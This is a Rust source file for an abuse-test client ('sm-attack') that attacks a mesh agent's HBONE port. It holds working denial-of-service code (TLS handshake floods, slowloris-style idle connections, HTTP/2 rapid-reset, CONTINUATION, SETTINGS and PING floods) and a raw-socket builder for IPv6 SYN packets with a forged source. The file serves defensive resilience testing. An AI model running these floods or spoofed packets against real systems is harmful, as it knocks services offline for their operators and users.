//! sm-attack: a hostile client of an agent's HBONE port (15008), for the abuse tests. Each
//! mode does one thing an attacker would and prints one JSON line with what the agent did.
//!
//!   sm-attack hellos --to ADDR --count N [--concurrency C]
//!       N TLS ClientHellos (no client certificate; the same bytes each time), each on its own
//!       connection, closed once the server answers. `answered`: the server sent its
//!       handshake flight (it did the cryptographic work); `refused`: it closed without a byte.
//!   sm-attack idle --to ADDR --count N [--wait-ms W] [--deadline-ms D]
//!       N TCP connections that send nothing, held until the server closes them or W passes:
//!       how many the server closed, and how many of those no sooner than D after the connect
//!       began.
//!   sm-attack slow --to ADDR --stage tcp|half-hello|no-preface|no-connect|silent-stream
//!       [--target APP] [--wait-ms W]: stops at that stage and measures when the server closes.
//!   sm-attack windows --to ADDR --connections N [--then-sa SA]
//!       N authenticated connections (service account sa-x) held open: the HTTP/2 connection
//!       window the server gave each (or `refused`). Then one more connection as `SA`. Prints the
//!       line, then holds everything until stdin closes.
//!   sm-attack streams --to ADDR --target APP --count N [--sa SA]: N CONNECT streams on one
//!       connection, none of them sending: how many were opened (200) and refused
//!       (REFUSED_STREAM).
//!   sm-attack h2 --to ADDR
//!       --attack rapid-reset|continuation|settings|ping|streams|garbage-after-preface|bad-preface
//!       [--target APP] [--count N]: raw HTTP/2 frames after an authenticated handshake; how
//!       the connection ended (`goaway` with its code, `eof`, `reset`, or `open`).
//!   sm-attack spoof-syn --from [IP6]:PORT --to [IP6]:PORT --data TEXT
//!       One IPv6 TCP SYN with a forged source, written whole through a raw socket, carrying
//!       TEXT as TCP Fast Open data (an empty cookie option): a listener that takes Fast Open
//!       without a cookie hands it to its app at once, so whether the app saw it tells where
//!       the packet went.
//!
//! Common: --root-dir DIR (the controller's root, to mint a legitimate certificate), --expect ID
//! (the server's identity).

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use mesh_identity::SpiffeId;
use rustls_pki_types::ServerName;
use serde_json::{json, Value};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

type Tls = tokio_rustls::client::TlsStream<TcpStream>;

struct Args(Vec<String>);

impl Args {
    fn get(&self, name: &str) -> Option<String> {
        self.0.iter().position(|a| a == name).and_then(|i| self.0.get(i + 1)).cloned()
    }
    fn num(&self, name: &str, default: u64) -> u64 {
        self.get(name).map(|v| v.parse().unwrap_or_else(|_| panic!("{name}: a number"))).unwrap_or(default)
    }
    fn to(&self) -> SocketAddr {
        self.get("--to").expect("--to").parse().expect("--to IP:PORT")
    }
    fn tls(&self, sa: &str) -> tokio_rustls::TlsConnector {
        let dir = PathBuf::from(self.get("--root-dir").expect("--root-dir"));
        let expect = SpiffeId::parse_workload(&self.get("--expect").expect("--expect")).expect("--expect");
        tokio_rustls::TlsConnector::from(Arc::new(tests::peer::client_config(&dir, "legit", sa, expect)))
    }
}

async fn handshake(tls: &tokio_rustls::TlsConnector, to: SocketAddr) -> std::io::Result<Tls> {
    let tcp = TcpStream::connect(to).await?;
    tls.connect(ServerName::try_from("hbone.test").unwrap(), tcp).await
}

/// Raises the soft descriptor limit to the hard one (the idle mode holds many).
fn raise_nofile() {
    let mut l = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: getrlimit/setrlimit on this process with a valid struct.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut l);
        l.rlim_cur = l.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &l);
    }
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let a = Args(std::env::args().skip(1).collect());
    let out = match a.0.first().map(String::as_str) {
        Some("hellos") => hellos(&a).await,
        Some("idle") => idle(&a).await,
        Some("slow") => slow(&a).await,
        Some("windows") => windows(&a).await,
        Some("streams") => streams(&a).await,
        Some("h2") => h2_attack(&a).await,
        Some("spoof-syn") => spoof_syn(&a),
        _ => panic!("usage: sm-attack hellos|idle|slow|windows|streams|h2|spoof-syn ... (see the file's header)"),
    };
    println!("{out}");
}

/// A ClientHello as rustls writes it (no client certificate is offered before the server asks).
fn client_hello() -> Vec<u8> {
    #[derive(Debug)]
    struct AnyServer;
    impl rustls::client::danger::ServerCertVerifier for AnyServer {
        fn verify_server_cert(
            &self,
            _: &rustls_pki_types::CertificateDer<'_>,
            _: &[rustls_pki_types::CertificateDer<'_>],
            _: &ServerName<'_>,
            _: &[u8],
            _: rustls_pki_types::UnixTime,
        ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
            Ok(rustls::client::danger::ServerCertVerified::assertion())
        }
        fn verify_tls12_signature(
            &self,
            _: &[u8],
            _: &rustls_pki_types::CertificateDer<'_>,
            _: &rustls::DigitallySignedStruct,
        ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
            Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
        }
        fn verify_tls13_signature(
            &self,
            _: &[u8],
            _: &rustls_pki_types::CertificateDer<'_>,
            _: &rustls::DigitallySignedStruct,
        ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
            Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
        }
        fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
            rustls::crypto::ring::default_provider().signature_verification_algorithms.supported_schemes()
        }
    }
    let mut cfg = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyServer))
        .with_no_client_auth();
    cfg.alpn_protocols = vec![b"h2".to_vec()];
    let mut c = rustls::ClientConnection::new(Arc::new(cfg), ServerName::try_from("hbone.test").unwrap()).unwrap();
    let mut hello = Vec::new();
    c.write_tls(&mut hello).unwrap();
    hello
}

/// Reads until the peer closes or `wait` passes: Some(how) when it closed.
async fn until_closed(s: &mut (impl AsyncRead + Unpin), wait: Duration) -> Option<&'static str> {
    let mut buf = [0u8; 4096];
    let r = tokio::time::timeout(wait, async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) => return "eof",
                Ok(_) => continue,
                Err(_) => return "reset",
            }
        }
    })
    .await;
    r.ok()
}

async fn hellos(a: &Args) -> Value {
    let (to, count, conc) = (a.to(), a.num("--count", 1000), a.num("--concurrency", 32));
    let hello = Arc::new(client_hello());
    let next = Arc::new(std::sync::atomic::AtomicU64::new(0));
    let started = Instant::now();
    let mut tasks = Vec::new();
    for _ in 0..conc {
        let (hello, next) = (hello.clone(), next.clone());
        tasks.push(tokio::spawn(async move {
            let (mut answered, mut refused, mut failed) = (0u64, 0u64, 0u64);
            while next.fetch_add(1, std::sync::atomic::Ordering::Relaxed) < count {
                let Ok(mut s) = TcpStream::connect(to).await else {
                    failed += 1;
                    continue;
                };
                if s.write_all(&hello).await.is_err() {
                    refused += 1;
                    continue;
                }
                let mut b = [0u8; 1];
                match tokio::time::timeout(Duration::from_secs(30), s.read(&mut b)).await {
                    Ok(Ok(1)) => answered += 1,
                    Ok(_) => refused += 1,
                    Err(_) => failed += 1,
                }
                let _ = socket2::SockRef::from(&s).set_linger(Some(Duration::ZERO));
            }
            (answered, refused, failed)
        }));
    }
    let (mut answered, mut refused, mut failed) = (0, 0, 0);
    for t in tasks {
        let (x, y, z) = t.await.unwrap();
        (answered, refused, failed) = (answered + x, refused + y, failed + z);
    }
    json!({"answered": answered, "refused": refused, "failed": failed, "seconds": started.elapsed().as_secs_f64()})
}

async fn idle(a: &Args) -> Value {
    raise_nofile();
    let (to, count, wait) = (a.to(), a.num("--count", 1000), Duration::from_millis(a.num("--wait-ms", 60_000)));
    let deadline = a.num("--deadline-ms", 0);
    let mut tasks = Vec::new();
    for _ in 0..count {
        tasks.push(tokio::spawn(async move {
            // From before the connect: with thousands of tasks on one thread, this one may see
            // its connect done well after the server accepted it, and a deadline measured from
            // then would look short.
            let started = Instant::now();
            let mut s = match tokio::time::timeout(Duration::from_secs(30), TcpStream::connect(to)).await {
                Ok(Ok(s)) => s,
                // Reset by the server before the connect was seen done: refused at once.
                Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionReset => return Ok(Some(0)),
                Ok(Err(e)) => return Err(e.raw_os_error().unwrap_or(0)),
                Err(_) => return Err(-1),
            };
            Ok(until_closed(&mut s, wait).await.map(|_| started.elapsed().as_millis() as u64))
        }));
    }
    let (mut opened, mut errors, mut closed) = (0u64, Vec::new(), Vec::new());
    for t in tasks {
        match t.await.unwrap() {
            Ok(c) => {
                opened += 1;
                closed.extend(c);
            }
            Err(e) => errors.push(e),
        }
    }
    closed.sort_unstable();
    errors.sort_unstable();
    errors.dedup();
    json!({
        "opened": opened,
        "connect_errors": errors,
        "closed": closed.len(),
        "closed_ms_min": closed.first(),
        "closed_ms_max": closed.last(),
        // How many were closed no sooner than --deadline-ms after their connect (held to a
        // deadline rather than refused at once).
        "at_deadline": closed.iter().filter(|&&ms| ms >= deadline).count(),
    })
}

async fn slow(a: &Args) -> Value {
    let (to, wait) = (a.to(), Duration::from_millis(a.num("--wait-ms", 60_000)));
    let stage = a.get("--stage").expect("--stage");
    let started = Instant::now();
    let ended = match stage.as_str() {
        "tcp" => until_closed(&mut TcpStream::connect(to).await.unwrap(), wait).await,
        "half-hello" => {
            let mut s = TcpStream::connect(to).await.unwrap();
            let hello = client_hello();
            s.write_all(&hello[..hello.len() / 2]).await.unwrap();
            until_closed(&mut s, wait).await
        }
        "no-preface" => until_closed(&mut handshake(&a.tls("sa-x"), to).await.unwrap(), wait).await,
        "no-connect" => {
            let tls = handshake(&a.tls("sa-x"), to).await.unwrap();
            let (_send, conn) = h2::client::handshake(tls).await.unwrap();
            tokio::time::timeout(wait, conn).await.ok().map(|r| if r.is_ok() { "eof" } else { "reset" })
        }
        "silent-stream" => {
            let tls = handshake(&a.tls("sa-x"), to).await.unwrap();
            let (send, conn) = h2::client::handshake(tls).await.unwrap();
            tokio::spawn(conn);
            let mut send = send.ready().await.unwrap();
            let (resp, _body) = send.send_request(connect(&a.get("--target").expect("--target")), false).unwrap();
            let resp = resp.await.unwrap();
            if resp.status() != 200 {
                return json!({"stage": stage, "error": format!("CONNECT answered {}", resp.status())});
            }
            let mut recv = resp.into_body();
            tokio::time::timeout(wait, async {
                loop {
                    match recv.data().await {
                        None => return "eof",
                        Some(Err(_)) => return "reset",
                        Some(Ok(_)) => {}
                    }
                }
            })
            .await
            .ok()
        }
        other => panic!("--stage {other}"),
    };
    json!({"stage": stage, "ended": ended, "closed_ms": ended.map(|_| started.elapsed().as_millis() as u64)})
}

fn connect(target: &str) -> http::Request<()> {
    http::Request::builder().method("CONNECT").uri(target).body(()).unwrap()
}

/// An HTTP/2 frame header.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// An HPACK literal header field without indexing, new name, no Huffman coding.
fn hpack_literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0);
    for s in [name, value] {
        hpack_len(out, s.len());
        out.extend_from_slice(s.as_bytes());
    }
}

fn hpack_len(out: &mut Vec<u8>, mut n: usize) {
    if n < 127 {
        out.push(n as u8);
        return;
    }
    out.push(127);
    n -= 127;
    while n >= 128 {
        out.push((n % 128) as u8 | 0x80);
        n /= 128;
    }
    out.push(n as u8);
}

fn connect_block(target: &str) -> Vec<u8> {
    let mut b = Vec::new();
    hpack_literal(&mut b, ":method", "CONNECT");
    hpack_literal(&mut b, ":authority", target);
    b
}

/// What the server sent on a raw connection, read by a task of its own (so that the server's
/// writes never stall the attack): its connection window and how the connection ended.
#[derive(Default, Debug)]
struct Seen {
    window_updates: u64,
    pings_acked: u64,
    goaway: Option<u32>,
    ended: Option<&'static str>,
}

async fn read_frames(
    mut r: impl AsyncRead + Unpin,
    seen: Arc<std::sync::Mutex<Seen>>,
    ping_acked: Arc<tokio::sync::Notify>,
) {
    let mut head = [0u8; 9];
    loop {
        if let Err(e) = r.read_exact(&mut head).await {
            let how = if e.kind() == std::io::ErrorKind::UnexpectedEof { "eof" } else { "reset" };
            seen.lock().unwrap().ended = Some(how);
            ping_acked.notify_one();
            return;
        }
        let len = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
        let mut payload = vec![0u8; len];
        if r.read_exact(&mut payload).await.is_err() {
            seen.lock().unwrap().ended = Some("eof");
            ping_acked.notify_one();
            return;
        }
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        let mut s = seen.lock().unwrap();
        match head[3] {
            WINDOW_UPDATE if stream == 0 && len == 4 => {
                s.window_updates += u64::from(u32::from_be_bytes(payload[..4].try_into().unwrap()) & 0x7fff_ffff);
            }
            PING if head[4] & 1 == 1 => {
                s.pings_acked += 1;
                ping_acked.notify_one();
            }
            GOAWAY if len >= 8 => s.goaway = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap())),
            _ => {}
        }
    }
}

/// An authenticated connection speaking raw frames: the preface and empty SETTINGS sent (or,
/// with `bad_preface`, HTTP/1.1 where the preface belongs).
async fn raw_with(
    a: &Args,
    sa: &str,
    bad_preface: bool,
) -> std::io::Result<(tokio::io::WriteHalf<Tls>, Arc<std::sync::Mutex<Seen>>, Arc<tokio::sync::Notify>)> {
    let tls = handshake(&a.tls(sa), a.to()).await?;
    let (r, mut w) = tokio::io::split(tls);
    let seen = Arc::new(std::sync::Mutex::new(Seen::default()));
    let acked = Arc::new(tokio::sync::Notify::new());
    tokio::spawn(read_frames(r, seen.clone(), acked.clone()));
    let mut hello = if bad_preface { b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec() } else { PREFACE.to_vec() };
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    w.write_all(&hello).await?;
    Ok((w, seen, acked))
}

async fn raw(
    a: &Args,
    sa: &str,
) -> std::io::Result<(tokio::io::WriteHalf<Tls>, Arc<std::sync::Mutex<Seen>>, Arc<tokio::sync::Notify>)> {
    raw_with(a, sa, false).await
}

/// The connection window the server gave: what it said before answering a second PING. (The
/// server may answer the first PING before it sends the window update it queued at the start,
/// in the same write; by the second, that write is long done.)
async fn granted_window(a: &Args, sa: &str) -> (Value, Option<tokio::io::WriteHalf<Tls>>) {
    let Ok((mut w, seen, acked)) = raw(a, sa).await else { return (json!("refused"), None) };
    for n in 1..=2u8 {
        if w.write_all(&frame(PING, 0, 0, &[n; 8])).await.is_err() {
            return (json!("refused"), None);
        }
        let _ = tokio::time::timeout(Duration::from_secs(30), async {
            loop {
                {
                    let s = seen.lock().unwrap();
                    if s.pings_acked >= u64::from(n) || s.ended.is_some() {
                        return;
                    }
                }
                acked.notified().await;
            }
        })
        .await;
    }
    let s = seen.lock().unwrap();
    if s.pings_acked < 2 {
        return (json!("refused"), None);
    }
    (json!(65_535 + s.window_updates), Some(w))
}

async fn windows(a: &Args) -> Value {
    let mut held = Vec::new();
    let mut windows = Vec::new();
    for _ in 0..a.num("--connections", 1) {
        let (win, w) = granted_window(a, "sa-x").await;
        windows.push(win);
        held.extend(w);
    }
    let other = match a.get("--then-sa") {
        Some(sa) => {
            let (win, w) = granted_window(a, &sa).await;
            held.extend(w);
            win
        }
        None => Value::Null,
    };
    println!("{}", json!({"windows": windows, "other": other}));
    // Held until the test is done with the agent (it closes our stdin).
    let mut sink = Vec::new();
    let _ = tokio::io::stdin().read_to_end(&mut sink).await;
    drop(held);
    json!({"released": true})
}

async fn streams(a: &Args) -> Value {
    let sa = a.get("--sa").unwrap_or_else(|| "sa-x".into());
    let tls = handshake(&a.tls(&sa), a.to()).await.unwrap();
    let (send, conn) = h2::client::handshake(tls).await.unwrap();
    tokio::spawn(conn);
    let target = a.get("--target").expect("--target");
    let mut pending = Vec::new();
    let mut held = Vec::new();
    for _ in 0..a.num("--count", 10) {
        let mut s = send.clone().ready().await.unwrap();
        let (resp, body) = s.send_request(connect(&target), false).unwrap();
        pending.push(resp);
        held.push(body);
    }
    let (mut opened, mut refused, mut other) = (0, 0, Vec::new());
    // Answered streams are kept open (neither side sends) until the process ends.
    let mut answered = Vec::new();
    for r in pending {
        match tokio::time::timeout(Duration::from_secs(30), r).await {
            Ok(Ok(resp)) if resp.status() == 200 => {
                opened += 1;
                answered.push(resp);
            }
            Ok(Err(e)) if e.reason() == Some(h2::Reason::REFUSED_STREAM) => refused += 1,
            Ok(Ok(resp)) => other.push(json!(resp.status().as_u16())),
            Ok(Err(e)) => other.push(json!(e.to_string())),
            Err(_) => other.push(json!("no answer")),
        }
    }
    let out = json!({"opened": opened, "refused": refused, "other": other});
    drop((held, answered));
    out
}

async fn h2_attack(a: &Args) -> Value {
    let attack = a.get("--attack").expect("--attack");
    let count = a.num("--count", 10_000) as u32;
    let target = a.get("--target").unwrap_or_else(|| "127.0.0.1:1".into());
    let started = Instant::now();
    let (mut w, seen, _acked) = match raw_with(a, "sa-x", attack == "bad-preface").await {
        Ok(x) => x,
        Err(e) => return json!({"attack": attack, "error": e.to_string()}),
    };
    let block = connect_block(&target);
    let mut sent = 0u32;
    let mut batch = Vec::new();
    for i in 0..count {
        let id = 2 * i + 1;
        match attack.as_str() {
            "rapid-reset" => {
                batch.extend(frame(HEADERS, END_HEADERS, id, &block));
                batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
            }
            "streams" => batch.extend(frame(HEADERS, END_HEADERS, id, &block)),
            "continuation" => {
                if i == 0 {
                    batch.extend(frame(HEADERS, 0, 1, &block));
                }
                let mut h = Vec::new();
                hpack_literal(&mut h, &format!("x-flood-{i}"), &"a".repeat(1000));
                batch.extend(frame(CONTINUATION, 0, 1, &h));
            }
            "settings" => batch.extend(frame(SETTINGS, 0, 0, &[])),
            "ping" => batch.extend(frame(PING, 0, 0, &i.to_be_bytes().repeat(2))),
            "bad-preface" => {}
            "garbage-after-preface" => {
                if i == 0 {
                    batch.extend(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(64));
                }
            }
            other => panic!("--attack {other}"),
        }
        if batch.len() >= 64 * 1024 || i + 1 == count {
            if w.write_all(&batch).await.is_err() {
                break;
            }
            sent = i + 1;
            batch.clear();
        }
    }
    // What the server does next: end the connection, or keep it (a bounded attack it absorbed).
    let _ = w.flush().await;
    let _ = tokio::time::timeout(Duration::from_secs(10), async {
        while seen.lock().unwrap().ended.is_none() {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
    .await;
    let s = seen.lock().unwrap();
    json!({
        "attack": attack,
        "sent": sent,
        "ended": s.ended.unwrap_or("open"),
        "goaway": s.goaway,
        "pings_acked": s.pings_acked,
        "ms": started.elapsed().as_millis() as u64,
    })
}

/// See the file's header: `spoof-syn`.
fn spoof_syn(a: &Args) -> Value {
    let parse = |name: &str| -> std::net::SocketAddrV6 {
        match a.get(name).unwrap_or_else(|| panic!("{name}")).parse() {
            Ok(SocketAddr::V6(s)) => s,
            _ => panic!("{name} [IPv6]:PORT"),
        }
    };
    let (from, to) = (parse("--from"), parse("--to"));
    let data = a.get("--data").unwrap_or_default().into_bytes();
    // TCP: 20 bytes, then the Fast Open option (kind 34, length 2: no cookie) and two NOPs.
    let mut tcp = Vec::with_capacity(24 + data.len());
    tcp.extend(from.port().to_be_bytes());
    tcp.extend(to.port().to_be_bytes());
    tcp.extend(0x5eed_0001u32.to_be_bytes()); // sequence
    tcp.extend(0u32.to_be_bytes()); // ack
    tcp.extend([6 << 4, 0x02]); // data offset 6 words; SYN
    tcp.extend(64240u16.to_be_bytes()); // window
    tcp.extend([0, 0, 0, 0]); // checksum, urgent
    tcp.extend([34, 2, 1, 1]);
    tcp.extend(&data);
    // The checksum covers the IPv6 pseudo-header: source, destination, length, next header.
    let mut sum = 0u32;
    let mut add = |bytes: &[u8]| {
        for c in bytes.chunks(2) {
            sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
        }
    };
    add(&from.ip().octets());
    add(&to.ip().octets());
    add(&(tcp.len() as u32).to_be_bytes());
    add(&[0, 0, 0, 6]);
    add(&tcp);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    let mut packet = vec![0x60, 0, 0, 0];
    packet.extend((tcp.len() as u16).to_be_bytes());
    packet.extend([6, 64]); // next header TCP, hop limit
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(tcp);
    // IPPROTO_RAW: the IPv6 header is ours, source included.
    let sock = socket2::Socket::new(
        socket2::Domain::IPV6,
        socket2::Type::RAW,
        Some(socket2::Protocol::from(libc::IPPROTO_RAW)),
    )
    .expect("a raw IPv6 socket (CAP_NET_RAW)");
    let dst = SocketAddr::V6(std::net::SocketAddrV6::new(*to.ip(), 0, 0, 0));
    match sock.send_to(&packet, &dst.into()) {
        Ok(n) => json!({"sent": n}),
        Err(e) => json!({"sent": 0, "error": e.to_string()}),
    }
}
